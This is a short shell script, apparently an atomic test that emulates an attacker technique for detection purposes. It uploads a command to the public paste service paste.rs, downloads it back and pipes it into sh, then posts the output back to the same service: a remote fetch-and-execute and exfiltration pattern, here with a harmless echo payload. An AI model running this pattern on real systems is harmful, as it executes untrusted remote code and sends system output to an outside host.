# The commands of the atomic test, each a curl of its own.
set -e
url=$(curl -s -X POST -d "echo 'Simulated host discovery output'" https://paste.rs)
result=$(curl -s "$url" | sh | curl -s -X POST --data-binary @- https://paste.rs)
curl -s "$result"
